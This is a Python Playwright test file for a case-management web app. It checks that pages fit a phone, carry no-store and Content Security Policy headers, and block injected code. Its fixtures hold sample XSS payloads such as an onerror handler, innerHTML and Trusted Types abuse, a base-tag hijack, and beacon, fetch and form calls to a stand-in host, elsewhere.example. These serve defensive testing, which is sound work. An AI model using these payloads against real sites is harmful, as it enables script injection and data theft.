"""What holds for every page: it fits a phone, keeps to its policy, and is kept by nobody."""

import re
from contextlib import suppress
from functools import partial

import pytest
from playwright.sync_api import Error, Route, expect

from tests.browser.conftest import PHONE, problems_of
from tests.browser.steps import open_case, sign_in

PAGES = {
    "officer": ["/", "/cases/", "/cases/search/", "/cases/register/", "/help/"],
    "supervisor": ["/", "/cases/", "/cases/due-for-erasure/", "/audit/officers/", "/statistics/"],
    "administrator": [
        *("/", "/cases/retention/", "/people/", "/people/new/", "/people/me/", "/people/waiting/"),
        *("/people/teams/", "/people/offices/", "/people/offices/new/"),
    ],
    "partner.admin": ["/", "/people/", "/people/waiting/"],
    "auditor": ["/", "/audit/", "/audit/verify/"],
    "analyst": ["/", "/statistics/", "/statistics/snapshots/"],
}
OF_A_CASE = ["", "person/", "what-happened/", "consent/", "sharing/", "trail/", "assistance/"]
OF_A_CASE += ["tasks/add/", "close/", "hold/", "who/", "trail/?kind=changes"]


@pytest.mark.parametrize("username", PAGES)
def test_no_page_is_wider_than_a_phone(visit, username):
    page = visit(username, phone=True)
    addresses = list(PAGES[username])
    if username == "officer":
        reference = open_case(page)
        addresses += [f"/cases/{reference}/{part}" for part in OF_A_CASE]
    wide = {}
    for address in addresses:
        response = page.goto(address)
        assert response.status == 200
        assert response.headers["cache-control"] == "no-store"
        assert "default-src 'none'" in response.headers["content-security-policy"]
        width = page.evaluate("document.documentElement.scrollWidth")
        if width > PHONE["width"]:
            wide[address] = width
    assert not wide


# What a hole in our pages could let somebody plant: which part of the policy stands in its way, and how.
PLANTED = {
    "a script by its address, though it is ours": (
        "script-src-elem",
        """const script = document.createElement("script");
        script.onload = () => { window.ran = true; };
        script.src = trusted.createScriptURL(document.querySelector("script[src*=htmx]").src);
        document.head.append(script);""",
    ),
    "markup with a handler": (
        "script-src-attr",
        """document.querySelector("main").innerHTML =
            trusted.createHTML("<img src=/static/nothing onerror='window.ran = true'>");""",
    ),
    "text as markup": (
        "require-trusted-types-for",
        """document.querySelector("main").innerHTML = "<b>planted</b>"; window.ran = true;""",
    ),
    "text as a script": (
        "require-trusted-types-for",
        """document.createElement("script").textContent = "planted"; window.ran = true;""",
    ),
    "text as an address of a script": (
        "require-trusted-types-for",
        """document.createElement("script").src = "/static/planted.js"; window.ran = true;""",
    ),
    "a policy for everything": (
        "trusted-types",
        """trustedTypes.createPolicy("default", {}); window.ran = true;""",
    ),
    "the policy of htmx, a second time": (
        "trusted-types",
        """trustedTypes.createPolicy("tutela", {}); window.ran = true;""",
    ),
    "a form that posts elsewhere": (
        "form-action",
        """const form = document.createElement("form");
        form.action = "http://elsewhere.example/";
        form.method = "post";
        document.body.append(form);
        form.submit();""",
    ),
    "another base for addresses": (
        "base-uri",
        """const base = document.createElement("base");
        base.href = "http://elsewhere.example/";
        document.head.append(base);""",
    ),
    "a picture that tells somebody": (
        "img-src",
        """const picture = new Image();
        picture.onload = () => { window.ran = true; };
        picture.src = "http://elsewhere.example/?who";""",
    ),
    "a question to somebody": (
        "connect-src",
        """fetch("http://elsewhere.example/?who").then(() => { window.ran = true; }, () => {});""",
    ),
    "a frame": (
        "frame-src",
        """const frame = document.createElement("iframe");
        frame.src = "/help/";
        document.body.append(frame);""",
    ),
    "a style": (
        "style-src-elem",
        """const style = document.createElement("style");
        style.textContent = "main { display: none }";
        document.head.append(style);""",
    ),
}
WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
    (window.broken ||= []).push(event.effectiveDirective);
})"""


@pytest.fixture
def watched(chromium, served):
    """A page whose violations of its policy are expected; `problems` is what the console told."""
    context = chromium.new_context(base_url=served.address)
    page = context.new_page()
    page.problems = []
    page.on("console", lambda message: page.problems.extend(problems_of(message)))
    page.add_init_script(WATCH)
    yield page
    context.close()


def until_blocked(page):
    """Wait until the browser reports what it stopped. Asked from here: the page may evaluate nothing."""
    for _try in range(200):
        if page.evaluate("window.broken?.length"):
            return
        page.wait_for_timeout(50)
    raise AssertionError("nothing was stopped")


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_is_blocked(watched, what):
    directive, code = PLANTED[what]
    if "trusted." in code:  # as if the one policy there is had been got hold of
        watched.add_init_script(
            "window.trusted = window.trustedTypes.createPolicy('tutela', {"
            "createHTML: (text) => text, createScriptURL: (text) => text})"
        )
    watched.goto("/account/sign-in/")
    with suppress(Error):  # Trusted Types throw
        watched.evaluate(f"() => {{ {code} }}")
    until_blocked(watched)
    assert watched.evaluate("window.broken").pop() == directive
    assert watched.evaluate("window.ran") is None
    assert watched.url.endswith("/account/sign-in/")


def test_other_tests_would_notice_what_is_planted(watched):
    watched.goto("/account/sign-in/")
    assert not watched.problems
    watched.evaluate(f"() => {{ {PLANTED['a style'][1]} }}")
    until_blocked(watched)
    assert any("Content Security Policy" in problem for problem in watched.problems)


def test_what_is_planted_in_an_answer_to_htmx_does_not_run(watched, served):
    """As if a template had forgotten to escape: what htmx swaps in is held by the same policy."""
    page = watched
    sign_in(page, "officer", served.password)
    planted = (
        "<div id='case-list'><b id='planted'>planted</b><img src='/nothing' onerror='window.ran = 1'>"
        "<button hx-on:click='window.ran = 2' onclick='window.ran = 3'>press</button>%s</div>"
    )
    script = "<script>window.ran = 4</script>"
    for body in (planted % "", planted % script):
        answer = {"body": body, "content_type": "text/html"}
        page.route("**/cases/?status=*", partial(_answer, **answer))
        page.goto("/cases/")
        assert not page.problems
        page.get_by_role("combobox", name="Status").select_option("Active")
        if script in body:
            page.wait_for_timeout(500)
            assert page.locator("#planted").count() == 0, "an answer with a script is not shown"
        else:
            page.get_by_role("button", name="press").click()
        page.wait_for_timeout(200)
        assert page.evaluate("window.ran") is None
        assert page.problems
        page.problems.clear()
        page.unroute("**/cases/?status=*")


def _answer(route: Route, **with_what: str) -> None:
    route.fulfill(**with_what)


def test_of_two_quick_choices_both_count(visit):
    page = visit("officer")
    page.goto("/cases/")
    first = re.compile(r"/cases/\?status=Active(?!.*mine=on)")
    page.route(first, lambda route: None)  # the first answer never comes
    page.get_by_role("combobox", name="Status").select_option("Active")
    page.get_by_label("Only those I am the officer of").check()
    page.wait_for_url("**/cases/?status=Active&**mine=on**")
    expect(page.get_by_role("rowheader").first).to_be_visible()
